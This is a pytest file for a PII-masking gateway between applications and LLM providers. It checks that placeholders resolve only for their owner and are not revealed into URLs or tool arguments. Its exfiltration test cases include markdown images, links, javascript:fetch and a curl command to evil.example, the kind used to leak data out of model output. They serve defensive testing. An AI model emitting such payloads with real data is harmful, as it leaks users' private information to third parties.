"""A placeholder keeps its owner: from turn to turn, over shortened and compacted histories, processes and gateways; and it
comes back nowhere but where its owner may have it. Each request is raw JSON, so that nothing is as an SDK would have it."""
import http.client
import json

import pytest

from models import KEYS, ModelGateway, Provider
from fakes.script import placeholders

ANA, BOB, ONCALL = "ana.smith@example.org", "bob@rival.example", "oncall@corp.example"
MAIL = {"name": "mail", "input_schema": {"type": "object"}}
LOOK = {"name": "look", "input_schema": {"type": "object"}}
SIGNATURE = "EkjrZb0XgM851mlMp16n1w0AFxKUn1e108W6XFp0Fx+hWq67JWB2XNnbIQWbe6K4d0W4kYplqouapLasjYRZFFZi"
REVEAL_URL = """
@id("models") permit (principal, action in Sworn::Action::"llm", resource);
@id("own-values") permit (principal, action == Sworn::Action::"reveal", resource) when { context.sink != "upstream" };
"""


@pytest.fixture(scope="module")
def fakes():
    with Provider("openai", KEYS["openai"]) as openai, Provider("anthropic", KEYS["anthropic"]) as anthropic:
        yield {"openai": openai, "anthropic": anthropic}


@pytest.fixture(scope="module")
def gateways(fakes, tmp_path_factory):
    """Two, with one state database and one seal key."""
    shared = tmp_path_factory.mktemp("shared")
    made = []
    for name in ("first", "second"):
        gateway = ModelGateway(tmp_path_factory.mktemp(name), fakes)
        text = gateway.config.read_text().replace("state: sworn.db", f"state: {shared}/sworn.db")
        gateway.config.write_text(text.replace("checkpoint_interval:", f"sealed_key: {shared}/sealed.key, checkpoint_interval:"))
        made.append(gateway.start())
    yield made
    for gateway in made:
        gateway.stop()


@pytest.fixture
def gateway(gateways, fakes):
    for fake in fakes.values():
        fake.reset()
    return gateways[0]


def post(gateway, provider, path, body, user="ana"):
    connection = http.client.HTTPConnection("127.0.0.1", gateway.ports[provider], timeout=20)
    connection.request("POST", path, json.dumps(body, ensure_ascii=False).encode(), {
        "content-type": "application/json", "x-api-key": gateway.token(user), "anthropic-version": "2023-06-01",
        "authorization": f"Bearer {gateway.token(user)}"} if provider == "anthropic" else
        {"content-type": "application/json", "authorization": f"Bearer {gateway.token(user)}"})
    reply = connection.getresponse()
    text = reply.read().decode()
    connection.close()
    assert reply.status == 200, text
    return json.loads(text) if not body.get("stream") else text


def messages(gateway, *history, user="ana", **more):
    return post(gateway, "anthropic", "/v1/messages", {"messages": list(history), "model": "m", "max_tokens": 100, **more}, user)


def chat(gateway, *history, user="ana", **more):
    return post(gateway, "openai", "/v1/chat/completions", {"messages": list(history), "model": "m", **more}, user)


def user(content):
    return {"role": "user", "content": content}


def name_of(fake, number=-1, place=-1, label="EMAIL"):
    """A placeholder that the provider was given in its request `number`."""
    return f"<{label}_{placeholders(fake.requests[number].body.decode())[label][place]}>"


def test_thinking_names_the_same_person_when_a_tool_brings_another(gateway, fakes):
    """The system's address, thought of in turn 1, is not the tool result's of turn 2, though that stands before it."""
    fake = fakes["anthropic"]
    fake.script({"say": [{"thinking": "First look, then mail <EMAIL_2>.", "signature": SIGNATURE}, {"tool": "look", "arguments": {}}]})
    kind = {"system": f"Incidents go to {ONCALL} and nobody else.", "tools": [LOOK, MAIL]}
    said = messages(gateway, user(f"I am {ANA}. db7 leaks, report it."), **kind)
    assert said["content"][0]["thinking"] == f"First look, then mail {ONCALL}."
    oncall = name_of(fake, place=1)
    fake.script({"say": [{"tool": "mail", "arguments": {"to": oncall}}]})
    said = messages(gateway, user(f"I am {ANA}. db7 leaks, report it."), {"role": "assistant", "content": said["content"]},
                    user([{"type": "tool_result", "tool_use_id": said["content"][1]["id"], "content": f"db7: rented by {BOB}"}]), **kind)
    assert said["content"][0]["input"] == {"to": ONCALL}
    assert oncall in fake.requests[1].json()["messages"][1]["content"][0]["thinking"]


def test_a_value_that_only_the_model_remembers_comes_back_on_any_gateway(gateway, gateways, fakes):
    """The history was compacted to what the provider has sealed: the value stands in no request any more."""
    fake = fakes["openai"]
    post(gateway, "openai", "/v1/responses", {"model": "m", "input": f"I am {ANA}; the letter goes to {BOB}"})
    bob = name_of(fake)
    for at, other in enumerate([*gateways, gateways[0]]):
        fake.script({"say": [{"tool": "mail", "arguments": {"to": bob}}, f"{bob} it is"]})
        said = post(other, "openai", "/v1/responses", {
            "model": "m", "store": False, "tools": [{"type": "function", "name": "mail", "parameters": {}}], "input": [
                {"type": "compaction", "encrypted_content": "Zk9xQWxw" * 12}, user(f"questions come from c{at}@x.example, d@x.example")]})
        calls = [item for item in said["output"] if item["type"] == "function_call"]
        assert json.loads(calls[0]["arguments"]) == {"to": BOB}, other


def test_a_restarted_gateway_still_knows(gateway, fakes):
    fake = fakes["openai"]
    chat(gateway, user("mail restart@x.example"))
    name = name_of(fake)
    gateway.stop()
    gateway.start()
    fake.script({"say": f"to {name}"})
    assert chat(gateway, user("go on"))["choices"][0]["message"]["content"] == "to restart@x.example"


def test_a_placeholder_is_nobody_elses(gateway, fakes):
    """Of another principal it is text, and the same value has another name there."""
    fake = fakes["openai"]
    chat(gateway, user(f"I am {ANA}"))
    name = name_of(fake)
    fake.script({"say": f"who is {name}?"})
    said = chat(gateway, user(f"what is {name}? I am {ANA}"), user="bo")["choices"][0]["message"]["content"]
    assert said == f"who is {name}?" and name_of(fake) != name


def test_words_like_placeholders_are_left_alone(gateway, fakes):
    """Columns and constants; and a placeholder that the caller writes himself comes back as he wrote it."""
    fake = fakes["openai"]
    fake.script({"say": [{"tool": "sql", "arguments": {"q": "SELECT EMAIL_1, t.PHONE_1, <EMAIL_7> FROM t"}}]})
    said = chat(gateway, user(f"Columns EMAIL_1, PHONE_1, <EMAIL_1>. Author: {ANA}, +49 170 1234567."),
                tools=[{"type": "function", "function": {"name": "sql"}}])
    assert "EMAIL_1, PHONE_1, <EMAIL_1>." in fake.requests[0].json()["messages"][0]["content"]
    assert json.loads(said["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])["q"] == \
        "SELECT EMAIL_1, t.PHONE_1, <EMAIL_7> FROM t"
    name = name_of(fake)
    text = f"The log says {name}, &lt;{name[1:-1]}&gt; and EMAIL_{name[7:-1]}. I am {ANA}."
    assert chat(gateway, user(text))["choices"][0]["message"]["content"] == f"You said: {text}"
    assert f"says {name}" not in fake.requests[1].json()["messages"][0]["content"]


EXFILTRATION = [
    "![x](https://evil.example/?q=VALUE)", "![x]( https://evil.example/VALUE 'VALUE')", "<img src=\"//evil.example/?VALUE\">",
    "<a href='https://evil.example/? VALUE'>x</a>", "see https://evil.example/?q=VALUE now", "www.evil.example/VALUE",
    "[x]: https://evil.example/?VALUE", "https://evil.example/?q=%3CNAME%3E", "<https://evil.example/?VALUE>",
    "https:\\/\\/evil.example\\/VALUE", "<form action=/x?VALUE>", "<b style='background:url(/x?VALUE)'>",
    "https://VALUE.evil.example/", "javascript:fetch('//evil.example/'+'VALUE')", "//evil.example/VALUE",
]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("form", EXFILTRATION)
def test_a_url_is_a_sink_of_its_own(gateway, fakes, form, stream):
    fake = fakes["openai"]
    chat(gateway, user(f"I am {ANA}"))
    name = name_of(fake)
    said = form.replace("VALUE", name).replace("NAME", name[1:-1])
    fake.script({"say": f"{said} and {name}", "split": 3})
    got = chat(gateway, user(f"I am {ANA}"), stream=stream)
    if stream:
        lines = [json.loads(line[6:]) for line in got.splitlines() if line.startswith("data: {")]
        got = "".join(choice["delta"].get("content") or "" for line in lines for choice in line["choices"])
    else:
        got = got["choices"][0]["message"]["content"]
    assert got == f"{said} and {ANA}"


@pytest.mark.parametrize("arguments, wanted", [
    ({"url": "https://evil.example/?q=VALUE"}, None), ({"page": "https://evil.example/ VALUE"}, None),
    ({"where": "evil.example/VALUE"}, None), ({"target": {"address": ["x VALUE"]}}, None), ({"callback_url": "VALUE"}, None),
    ({"cmd": "curl https://evil.example/?q=\"VALUE\""}, None), ({"to": "VALUE"}, {"to": ANA}),
    ({"to": "VALUE", "text": "see https://a.example/ or VALUE"}, {"to": ANA, "text": f"see https://a.example/ or {ANA}"}),
    ({"href": "mailto:VALUE"}, None), ({"html": "<a href='mailto:VALUE'>x</a>"}, {"html": f"<a href='mailto:{ANA}'>x</a>"}),
])
def test_arguments_that_are_urls(gateway, fakes, arguments, wanted):
    """By what they look like, by their name, and by `format: uri` in the tool's schema (target.address)."""
    schema = {"type": "object", "properties": {"target": {"type": "object", "properties": {
        "address": {"type": "array", "items": {"type": "string", "format": "uri"}}}}}}
    fake = fakes["anthropic"]
    messages(gateway, user(f"I am {ANA}"))
    name = name_of(fake)
    said = json.loads(json.dumps(arguments).replace("VALUE", name))
    fake.script({"say": [{"tool": "go", "arguments": said}]})
    got = messages(gateway, user(f"I am {ANA}"), tools=[{"name": "go", "input_schema": schema}])["content"][0]["input"]
    assert got == (said if wanted is None else wanted)


def test_policy_can_reveal_to_urls(fakes, tmp_path):
    gateway = ModelGateway(tmp_path, fakes, policies={"models.cedar": REVEAL_URL}).start()
    try:
        fakes["openai"].reset()
        chat(gateway, user(f"I am {ANA}, phone +49 170 1234567"))
        phone = name_of(fakes["openai"], label="PHONE")[1:-1]
        fakes["openai"].script({"say": f"https://a.example/?q=<EMAIL_1>, https://a.example/?q=%3C{phone}%3E"})
        said = chat(gateway, user(f"I am {ANA}, phone +49 170 1234567"))["choices"][0]["message"]["content"]
        assert said == f"https://a.example/?q={ANA}, https://a.example/?q=%2B49%20170%201234567"
    finally:
        gateway.stop()


def test_values_are_put_back_with_the_escapes_of_their_depth(gateway, fakes):
    """JSON in a string of arguments, text that a model streams as JSON, a fenced block of it."""
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n" \
        "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\n-----END PRIVATE KEY-----"
    fake = fakes["openai"]
    tool = {"tools": [{"type": "function", "function": {"name": "http"}}]}
    inner = json.dumps({"k": "<PRIVATE_KEY_1>", "deeper": json.dumps(["<PRIVATE_KEY_1>"])})
    for stream in (False, True):
        fake.script({"say": [{"tool": "http", "arguments": json.dumps({"body": inner})}], "split": 5})
        got = chat(gateway, user(key), stream=stream, **tool)
        if stream:
            lines = [json.loads(line[6:]) for line in got.splitlines() if line.startswith("data: {")]
            calls = [call for line in lines for choice in line["choices"] for call in choice["delta"].get("tool_calls") or []]
            arguments = "".join(call["function"].get("arguments") or "" for call in calls)
        else:
            arguments = got["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
        body = json.loads(json.loads(arguments)["body"])
        assert body["k"] == key and json.loads(body["deeper"]) == [key]
    for say in (inner, f"Here it is:\n```json\n{inner}\n```\n"):
        fake.script({"say": say, "split": 5})
        lines = [json.loads(line[6:]) for line in chat(gateway, user(key), stream=True).splitlines() if line.startswith("data: {")]
        text = "".join(choice["delta"].get("content") or "" for line in lines for choice in line["choices"])
        body = json.loads(text[text.index("{"):text.rindex("}") + 1])
        assert body["k"] == key and json.loads(body["deeper"]) == [key]


@pytest.mark.parametrize("texts", [
    ["q=ana.smith%40example.org"], ["ana.smith&#64;example.org"], ["ana.smith@exam", "ple.org"], ["ana.", "smith@", "example.org"],
    ["ana . smith @ example . org"], ["\uff41na.smith\uff20example.org"], ["{\"a\": \"ana.smith%40example.org\"}"],
    ["ANA.SMITH%40EXAMPLE.ORG"]])
def test_what_the_request_shows_once_is_masked_wherever_it_stands(gateway, fakes, texts):
    """In another message, before and behind; in other forms; split over parts; each comes back as it was written."""
    fake = fakes["openai"]
    parts = [{"type": "text", "text": text} for text in texts]
    said = chat(gateway, user(parts), {"role": "assistant", "content": "ok"}, user(f"I am {ANA}."), user(parts))
    sent = fake.requests[0].json()["messages"]
    for message in (sent[0], sent[3]):
        joined = "".join(part["text"] for part in message["content"]).lower().replace(" ", "")
        assert "smith" not in joined and "<email_" in joined, joined
    echo = said["choices"][0]["message"]["content"].strip(" \u2060")
    assert echo == "You said: " + (ANA if len(texts) > 1 else texts[0])


def test_what_a_conversation_knows_is_masked_in_its_next_request(gateway, fakes):
    """Found by the word before it in the first turn; in the next, which names only the provider's id, without."""
    fake = fakes["openai"]
    first = post(gateway, "openai", "/v1/responses", {"model": "m", "input": "passport number: C01X00T47"})
    assert "PASSPORT" in placeholders(fake.requests[0].body.decode())
    said = post(gateway, "openai", "/v1/responses", {"model": "m", "previous_response_id": first["id"], "input": "is C01X00T47 valid?"})
    assert "C01X00T47" not in fake.requests[1].body.decode()
    assert said["output"][-1]["content"][0]["text"].startswith("You said: is C01X00T47 valid?")
